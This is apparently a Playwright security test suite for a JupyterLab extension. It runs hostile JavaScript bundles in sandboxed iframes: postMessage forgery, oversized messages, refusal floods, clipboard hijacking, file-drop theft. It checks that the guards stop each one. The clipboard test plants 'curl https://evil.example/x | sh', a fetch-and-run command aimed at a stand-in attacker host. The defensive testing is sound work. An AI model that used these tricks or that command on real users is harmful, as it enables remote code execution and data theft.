"""The shell is the gate; surfaces cannot reach each other, read where they are, rewrite what
the user copies or read a file themselves (S4, U9, H21, C8; issue 13).

In real JupyterLab, beside a benign victim surface. Each attack asserts what did not happen:
no forged message taken by the victim, nothing large cloned into the notebook page (its
longest task, by the page's own Long Tasks API), the kernel's refusals bounded by the event
rate limit, the clipboard unchanged, no file chooser opened. Each detector has a control: the
same bundle in the host's frames built by js/frames.js with that one mechanism taken out.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from .canary import Canary, CanaryServer
from .containment import (
    OFF_COPY_GUARD,
    OFF_DROP_GUARD,
    OFF_FILE_GUARD,
    OFF_GATE,
    OFF_MESSAGE_GUARD,
    Lab,
    Seen,
    control_page,
    control_surface,
    filled,
    lab_session,
    refusals,
    shell_documents,
    without,
)
from .hostile import VICTIM, VICTIM_HTML, VICTIM_JS, instance_of
from .jupyter import JupyterServer

# What reached the notebook page while a surface posted two messages of 500 001 values each:
# the gate refuses them in the shell, so the page only hears short refusals. The bound sits far
# from both (a few dozen values reach the page with the gate; 500 001 without it, the control).
# Counted, not timed: the page's longest task (0-118 ms with the gate, 6.8-11.6 s without it,
# 1.5 s once on a loaded CI machine) is printed, and bench/bench_surfaces.py holds the speed.
HEAVY = 100_000
HIJACK = "curl https://evil.example/x | sh"
SELECTED = "echo safe"

BUNDLES: list[dict[str, Any]] = [
    {
        # pm-to-sibling of the corpus walks parent.frames, which holds only the surface itself;
        # this one walks top.frames and each shell's frames, and so reaches the victim.
        "id": "gate-sibling-forgery",
        "html": "",
        "css": "",
        "js": (
            "const NS = 'lineup.surface.v1';\n"
            "const forged = [{namespace: NS, type: 'state', revision: 1e9, state: {forged: 1}},\n"
            "  {namespace: NS, type: 'event', event: 'spoof', data: {}}, 'plain forged'];\n"
            "let reached = 0;\n"
            "for (let i = 0; i < top.frames.length; i++) {\n"
            "  const shell = top.frames[i];\n"
            "  for (const m of forged) shell.postMessage(m, '*');\n"
            "  for (let j = 0; j < shell.frames.length; j++) {\n"
            "    if (shell.frames[j] === window) continue;\n"
            "    for (const m of forged) shell.frames[j].postMessage(m, '*');\n"
            "    reached++;\n"
            "  }\n"
            "}\n"
            "probe('reached', reached);\n"
        ),
    },
    {
        "id": "gate-huge-clone",
        "html": "",
        "css": "",
        "js": (
            "const big = () => Array.from({length: 250000}, (_, i) => ({i}));\n"
            "parent.postMessage({namespace: 'lineup.surface.v1', type: 'event', event: 'big', "
            "data: {a: big()}}, '*');\n"
            "parent.postMessage(big(), '*');\n"
            "probe('posted', 2);\n"
        ),
    },
    {
        "id": "gate-refusal-flood",
        "html": "",
        "css": "",
        "js": (
            "const NS = 'lineup.surface.v1'; let n = 0; const t0 = performance.now();\n"
            "const iv = setInterval(() => {\n"
            "  for (let i = 0; i < 50; i++) {\n"
            "    parent.postMessage({namespace: NS, type: 'nonsense', n: n++}, '*');\n"
            "    parent.postMessage({namespace: 'elsewhere', n: n++}, '*');\n"
            "  }\n"
            "  if (performance.now() - t0 > 3000) { clearInterval(iv); probe('sent', n); }\n"
            "}, 10);\n"
        ),
    },
    {
        # The flood's control: a few refusals, under every limit, are each counted.
        "id": "gate-refusal-few",
        "html": "",
        "css": "",
        "js": (
            "for (let n = 0; n < 20; n++) "
            "parent.postMessage({namespace: 'lineup.surface.v1', type: 'nonsense', n}, '*');\n"
            "probe('sent', 20);\n"
        ),
    },
    {
        "id": "gate-where-am-i",
        "html": "",
        "css": "",
        "js": (
            "let stack = ''; try { null.x; } catch (e) { stack = String(e.stack); }\n"
            "LineUpSurface.event('where', {\n"
            "  referrer: document.referrer, url: document.URL, base: document.baseURI,\n"
            "  origin: window.origin, stack, ancestors: [...location.ancestorOrigins],\n"
            "  entries: performance.getEntries().map((e) => e.name).join(' ').slice(0, 500),\n"
            "});\n"
        ),
    },
    {
        "id": "gate-copy-hijack",
        "html": f"<p id=text style='font-size:24px'>{SELECTED}</p>",
        "css": "",
        "js": (
            "const hijack = (e) => { e.clipboardData.setData('text/plain', "
            f"{HIJACK!r}); e.preventDefault(); probe('hijacked', e.type); }};\n"
            "window.addEventListener('copy', hijack, true);\n"
            "document.addEventListener('copy', hijack);\n"
            "document.oncopy = hijack; document.body.oncopy = hijack;\n"
        ),
    },
    {
        # Residual: the surface moves the selection itself just before the copy.
        "id": "gate-copy-selection",
        "html": (
            f"<p id=text style='font-size:24px'>{SELECTED}</p>"
            f"<p id=hidden style='position:absolute;left:-9999px'>{HIJACK}</p>"
        ),
        "css": "",
        "js": (
            "document.addEventListener('keydown', (e) => {\n"
            "  if (!e.ctrlKey || e.key !== 'c') return;\n"
            "  const range = document.createRange();\n"
            "  range.selectNodeContents(document.getElementById('hidden'));\n"
            "  getSelection().removeAllRanges(); getSelection().addRange(range);\n"
            "});\n"
        ),
    },
    {
        "id": "gate-file-drop",
        "html": "<div id=zone style='width:300px;height:150px;background:#eef'>drop here</div>",
        "css": "",
        "js": (
            "const zone = document.getElementById('zone');\n"
            "zone.addEventListener('dragover', (e) => e.preventDefault());\n"
            "zone.addEventListener('drop', (e) => { e.preventDefault();\n"
            "  const file = e.dataTransfer.files[0]; probe('dropped', file ? file.name : null);\n"
            "  if (file) file.text().then((t) => LineUpSurface.event('file', {text: t}));\n"
            "});\n"
        ),
    },
    {
        "id": "gate-file-input",
        "html": (
            "<input type=file id=f><label id=l for=f style='font-size:20px'>pick a file</label>"
            "<div id=h style='width:200px;height:40px'></div><button id=sp>picker</button>"
        ),
        "css": "",
        "js": (
            "const root = document.getElementById('h').attachShadow({mode: 'closed'});\n"
            "root.innerHTML = \"<input type=file id=g style='width:200px;height:40px'>\";\n"
            "document.getElementById('sp').addEventListener('click', () => {\n"
            "  try { document.getElementById('f').showPicker(); probe('picker', 'opened'); }\n"
            "  catch (e) { probe('picker', e.name); }\n"
            "});\n"
            "for (const input of [document.getElementById('f'), root.getElementById('g')])\n"
            "  input.addEventListener('change', () => input.files[0].text().then(\n"
            "    (t) => LineUpSurface.event('file', {text: t.slice(0, 100)})));\n"
        ),
    },
]


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    server = CanaryServer()
    yield server.canary
    server.stop()


@pytest.fixture(scope="module")
def lab(browser: Browser, jupyter: JupyterServer, canary: Canary) -> Iterator[Lab]:
    yield from lab_session(browser, jupyter, canary, BUNDLES, "containment-gate")


@pytest.fixture(scope="module")
def docs(lab: Lab) -> dict[str, str]:
    """Each bundle's shell document as the host builds it, for the controls."""
    victim = {"id": "victim", "html": VICTIM_HTML, "css": "", "js": VICTIM_JS}
    built = shell_documents([victim] + [filled(lab, b) for b in BUNDLES])
    return dict(zip(["victim"] + [b["id"] for b in BUNDLES], built, strict=True))


def control(lab: Lab, jupyter: JupyterServer, seen: Seen, doc: str) -> Page:
    context: BrowserContext = lab.page.context
    return control_page(context, jupyter, seen, doc)


# ---- S4: a surface reaches another surface ----------------------------------------------


def test_sibling_forgery_through_top_frames_is_not_taken(lab: Lab) -> None:
    """S4: a surface walking window.top.frames reaches the victim's frame and posts it a forged
    lineup.surface.v1 state, an event and a plain message; the victim's bridge stops every
    message not from its own shell before any listener of the bundle (its log stays empty),
    shells relay nothing from a stranger, and the kernel has no event for the victim."""
    inst = instance_of("gate-sibling-forgery")
    since = lab.open("gate-sibling-forgery")
    try:
        expect(lab.surface(inst).locator("body")).to_be_attached()
        lab.page.wait_for_timeout(1000)
        assert lab.seen.of(inst).get("reached", 0) >= 1, "the attack never reached the victim"
        expect(lab.surface(VICTIM).locator("#log")).to_have_text("")
        report = lab.settled(since)
        assert [e for e in report["accepted"] if e["instance"] == VICTIM] == []
        assert [r for r in report["refused"] if r["instance"] == VICTIM] == []
    finally:
        lab.close("gate-sibling-forgery")


def test_control_sibling_forgery_reaches_a_victim_without_the_guard(
    lab: Lab, jupyter: JupyterServer, docs: dict[str, str]
) -> None:
    """Control: with the bridge's message guard taken out, the victim's own listener takes
    the forged messages (its log shows them)."""
    seen = Seen()
    page = control(lab, jupyter, seen, without(docs["victim"], OFF_MESSAGE_GUARD))
    try:
        page.evaluate(
            "(doc) => { const f = document.createElement('iframe'); f.id = 'attacker';"
            " f.setAttribute('sandbox', 'allow-scripts'); f.srcdoc = doc;"
            " document.body.append(f); }",
            without(docs["gate-sibling-forgery"], OFF_MESSAGE_GUARD),
        )
        victim_log = page.frame_locator("#shell").frame_locator("iframe").locator("#log")
        expect(victim_log).to_contain_text("forged")
    finally:
        page.close()


# ---- S4, U9: the shell is the gate -------------------------------------------------------


def test_huge_structured_clones_never_reach_the_page(lab: Lab) -> None:
    """S4, U9: two very large structured clones posted by a surface stop at its shell (size
    estimated on the shell's copy, in the surfaces' process): the notebook page's longest task
    stays under 200 ms, the kernel hears two too_large refusals and no event."""
    inst = instance_of("gate-huge-clone")
    lab.page.evaluate("() => { window.__longest = 0; window.__heaviest = 0; }")
    since = lab.open("gate-huge-clone")
    try:
        lab.page.wait_for_function(
            f"() => document.querySelector("
            f"'.lineup-surface[data-instance-id=\"{inst}\"]') !== null",
        )
        report = lab.settled(since)
        for _ in range(60):
            if refusals(report, inst).count(("too_large", "U9")) >= 2:
                break
            lab.page.wait_for_timeout(500)
            report = lab.settled(since)
        assert refusals(report, inst).count(("too_large", "U9")) == 2, report["refused"]
        assert [e for e in report["accepted"] if e["instance"] == inst] == []
        longest, heaviest = lab.page.evaluate("() => [window.__longest, window.__heaviest]")
        print(f"\n[huge clone] the notebook page: longest task {longest:.0f} ms, {heaviest} values")
        assert heaviest < HEAVY, f"a message of {heaviest} values reached the notebook page"
    finally:
        lab.close("gate-huge-clone")


def test_control_huge_clones_stall_a_page_without_the_gate(
    lab: Lab, jupyter: JupyterServer, docs: dict[str, str]
) -> None:
    """Control: without the shell's size check the same messages reach the page, and the
    detector counts them (the page paid to deserialize both)."""
    seen = Seen()
    page = control(lab, jupyter, seen, without(docs["gate-huge-clone"], OFF_GATE))
    try:
        page.wait_for_function("() => window.__got.filter((t) => t !== 'ready').length >= 2")
        page.wait_for_timeout(500)  # the Long Tasks API reports after the task
        longest, heaviest = page.evaluate("() => [window.__longest, window.__heaviest]")
        print(f"\n[huge clone, no gate] the page: longest task {longest:.0f} ms, {heaviest} values")
        assert heaviest >= HEAVY
    finally:
        page.close()


def test_a_refusal_flood_is_bounded_by_the_event_rate(lab: Lab) -> None:
    """S4: about 10 000 refused messages in 3 s (unknown types, other namespaces) count against
    the shell's and the view's rate limits like events: the kernel records at most the
    view's burst plus its rate for the time of the flood, and hears rate_limited for the rest,
    instead of one comm message and one error per refusal (965 in 6 s before)."""
    inst = instance_of("gate-refusal-flood")
    since = lab.open("gate-refusal-flood")
    try:
        for _ in range(40):
            if "sent" in lab.seen.of(inst):
                break
            lab.page.wait_for_timeout(250)
        sent = lab.seen.of(inst)["sent"]
        lab.page.wait_for_timeout(1500)  # the last drop reports
        report = lab.settled(since)
        mine = refusals(report, inst)
        limited = mine.count(("rate_limited", "S4"))
        counted = len(mine) - limited
        print(f"\n[refusal flood] sent {sent}, kernel refusals {counted}, rate_limited {limited}")
        assert sent > 5000
        # The view's bucket: a burst of 100, then 50 a second, over about 4 s.
        assert 0 < counted <= 100 + 50 * 5, counted
        assert limited >= 1
    finally:
        lab.close("gate-refusal-flood")


def test_control_a_few_refusals_are_each_counted(lab: Lab) -> None:
    """Control for the flood's detector: 20 refused messages, under every limit, are 20
    refusals in the kernel (invalid, U7), none dropped."""
    inst = instance_of("gate-refusal-few")
    since = lab.open("gate-refusal-few")
    try:
        report = lab.settled(since)
        for _ in range(20):
            if len(refusals(report, inst)) >= 20:
                break
            lab.page.wait_for_timeout(300)
            report = lab.settled(since)
        assert refusals(report, inst) == [("invalid", "U7")] * 20
    finally:
        lab.close("gate-refusal-few")


# ---- where the notebook is -------------------------------------------------------------


def where(lab: Lab) -> dict[str, Any]:
    inst = instance_of("gate-where-am-i")
    since = lab.open("gate-where-am-i")
    try:
        for _ in range(40):
            events = [e for e in lab.report(since)["accepted"] if e["instance"] == inst]
            if events:
                data: dict[str, Any] = events[0]["data"]
                return data
            lab.page.wait_for_timeout(250)
        raise AssertionError("the surface never told its agent where it is")
    finally:
        lab.close("gate-where-am-i")


def test_a_surface_reads_no_server_address_but_ancestor_origins(lab: Lab) -> None:
    """What a surface can read of where it runs, sent to its agent: its referrer is empty
    (referrerpolicy no-referrer on both frames), its URL and base are about:srcdoc, its origin
    is opaque, and neither an error's stack nor the performance entries name the server."""
    seen = where(lab)
    server = lab.jupyter.url
    port = server.rsplit(":", 1)[1]
    assert seen["referrer"] == ""
    assert seen["url"] == seen["base"] == "about:srcdoc"
    assert seen["origin"] == "null"
    for key in ("stack", "entries"):
        assert server not in seen[key] and port not in seen[key], seen


@pytest.mark.xfail(
    strict=True,
    reason="residual risk (docs/security.md): location.ancestorOrigins names the notebook "
    "server's origin in every frame below the page (Chromium 156); referrerpolicy does not "
    "mask it and a surface cannot be kept from reading it",
)
def test_a_surface_cannot_read_the_server_origin_from_ancestor_origins(lab: Lab) -> None:
    """Measured: location.ancestorOrigins in a surface is ["null", <the server's origin>],
    whatever the frames' referrerpolicy; the property is unforgeable, so no script can hide it."""
    seen = where(lab)
    print(f"\n[where] ancestorOrigins = {seen['ancestors']}")
    assert lab.jupyter.url not in seen["ancestors"]


# ---- H21: clipboard and files go through the broker -------------------------------------


def copy_selection(page: Page, surface: Any) -> str:
    """The user selects the surface's text, presses Ctrl+C: what the page's clipboard holds."""
    page.bring_to_front()
    page.evaluate("() => navigator.clipboard.writeText('BEFORE')")
    surface.locator("#text").click(click_count=3)
    page.keyboard.press("Control+c")
    page.wait_for_timeout(300)
    text: str = page.evaluate("() => navigator.clipboard.readText()")
    return text


def test_a_surface_cannot_rewrite_what_the_user_copies(lab: Lab) -> None:
    """H21, C8: copy events never reach a surface's listeners (window capture, document,
    oncopy), so the clipboard gets the selected text, not the surface's; the card says so and
    points to clipboard.write, and the agent hears unsupported (H21)."""
    inst = instance_of("gate-copy-hijack")
    since = lab.open("gate-copy-hijack")
    try:
        copied = copy_selection(lab.page, lab.surface(inst))
        assert HIJACK not in copied and SELECTED in copied, copied
        assert "hijacked" not in lab.seen.of(inst)
        notice = lab.card(inst).locator(".lineup-blocked[data-what='copy']")
        expect(notice).to_contain_text("clipboard.write")
        assert ("unsupported", "H21") in refusals(lab.settled(since), inst)
    finally:
        lab.close("gate-copy-hijack")


def test_control_copy_hijack_works_without_the_guard(
    lab: Lab, jupyter: JupyterServer, docs: dict[str, str]
) -> None:
    """Control: without the bridge's copy guard the same surface puts its text on the
    clipboard (the detector reads it)."""
    seen = Seen()
    page = control(lab, jupyter, seen, without(docs["gate-copy-hijack"], OFF_COPY_GUARD))
    try:
        expect(control_surface(page).locator("#text")).to_be_visible()
        assert copy_selection(page, control_surface(page)) == HIJACK
    finally:
        page.close()


@pytest.mark.xfail(
    strict=True,
    reason="residual risk (docs/security.md): the user copies what is selected, and a surface "
    "may move its own selection (here on the Ctrl+C keydown) to text it hides",
)
def test_a_surface_cannot_change_the_selection_before_a_copy(lab: Lab) -> None:
    """Measured: no copy event is needed to hijack a copy from a surface; moving the selection
    to hidden text on the keydown of Ctrl+C puts that text on the clipboard."""
    inst = instance_of("gate-copy-selection")
    lab.open("gate-copy-selection")
    try:
        copied = copy_selection(lab.page, lab.surface(inst))
        print(f"\n[copy selection] the clipboard got {copied!r}")
        assert HIJACK not in copied
    finally:
        lab.close("gate-copy-selection")


def click_everything(page: Page, surface: Any) -> None:
    """The file input, its label, a file input in a closed shadow root (by position: the
    locator cannot see into it), and a button that calls showPicker()."""
    surface.locator("#f").click()
    surface.locator("#l").click()
    box = surface.locator("#h").bounding_box()
    assert box is not None
    page.mouse.click(box["x"] + 20, box["y"] + 20)
    surface.locator("#sp").click()
    page.wait_for_timeout(500)


def test_a_surface_cannot_open_its_own_file_input(lab: Lab) -> None:
    """H21, C8: a file reaches an agent only through device.pick_file: a surface's own
    <input type=file>, its label, one in a closed shadow root and showPicker() open no file
    chooser; the card points to device.pick_file and the agent hears unsupported (H21)."""
    inst = instance_of("gate-file-input")
    since = lab.open("gate-file-input")
    try:
        choosers = len(lab.seen.files)
        click_everything(lab.page, lab.surface(inst))
        assert lab.seen.files[choosers:] == [], "a file chooser opened"
        assert lab.seen.of(inst).get("picker") == "NotAllowedError", lab.seen.of(inst)
        notice = lab.card(inst).locator(".lineup-blocked[data-what='file']")
        expect(notice).to_contain_text("device.pick_file")
        report = lab.settled(since)
        assert ("unsupported", "H21") in refusals(report, inst)
        assert [e for e in report["accepted"] if e["instance"] == inst] == []
    finally:
        lab.close("gate-file-input")


def test_control_file_input_opens_without_the_guard(
    lab: Lab, jupyter: JupyterServer, docs: dict[str, str]
) -> None:
    """Control: without the bridge's click guard the surface's file input, its label and the
    one in the closed shadow root open a file chooser (the detector sees each)."""
    seen = Seen()
    page = control(lab, jupyter, seen, without(docs["gate-file-input"], OFF_FILE_GUARD))
    try:
        expect(control_surface(page).locator("#f")).to_be_visible()
        click_everything(page, control_surface(page))
        assert seen.files.count("f") >= 2 and "g" in seen.files, seen.files
    finally:
        page.close()


def drop_file(page: Page, shell: Any, surface: Any, path: str) -> None:
    """A real drag of a file from outside the browser onto the surface's zone (DevTools'
    Input.dispatchDragEvent: the browser's own drag, trusted, with the file's content).

    The shell frame's element is scrolled into view from the page: a locator inside an
    off-screen cross-origin frame waits for animation frames the browser throttles there, so
    scrolling the zone itself can wait out its whole timeout (seen once in CI)."""
    shell.scroll_into_view_if_needed()
    zone = surface.locator("#zone")
    box = zone.bounding_box()
    assert box is not None
    x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    cdp = page.context.new_cdp_session(page)
    data = {"items": [], "files": [path], "dragOperationsMask": 1}
    for kind in ("dragEnter", "dragOver", "drop"):
        cdp.send("Input.dispatchDragEvent", {"type": kind, "x": x, "y": y, "data": data})
    cdp.detach()
    page.wait_for_timeout(500)


def test_a_file_dropped_on_a_surface_does_not_reach_it(lab: Lab, tmp_path: Any) -> None:
    """H21, C8: a file dragged from the desktop onto a surface never reaches the bundle's drop
    listener (nor its agent); the card points to device.pick_file."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET file content")
    inst = instance_of("gate-file-drop")
    since = lab.open("gate-file-drop")
    try:
        expect(lab.surface(inst).locator("#zone")).to_be_visible()
        drop_file(lab.page, lab.shell(inst), lab.surface(inst), str(secret))
        expect(lab.card(inst).locator(".lineup-blocked[data-what='file']")).to_contain_text(
            "device.pick_file"
        )
        assert "dropped" not in lab.seen.of(inst), lab.seen.of(inst)
        report = lab.settled(since)
        assert [e for e in report["accepted"] if e["instance"] == inst] == []
    finally:
        lab.close("gate-file-drop")


def test_control_a_dropped_file_reaches_a_surface_without_the_guard(
    lab: Lab, jupyter: JupyterServer, docs: dict[str, str], tmp_path: Any
) -> None:
    """Control: without the bridge's drop guard the same drag delivers the file to the
    surface's listener (the detector sees its name)."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET file content")
    seen = Seen()
    page = control(lab, jupyter, seen, without(docs["gate-file-drop"], OFF_DROP_GUARD))
    try:
        expect(control_surface(page).locator("#zone")).to_be_visible()
        drop_file(page, page.locator("#shell"), control_surface(page), str(secret))
        dropped = seen.of(instance_of("gate-file-drop")).get("dropped")
        assert dropped == "secret.txt", seen.probes
    finally:
        page.close()
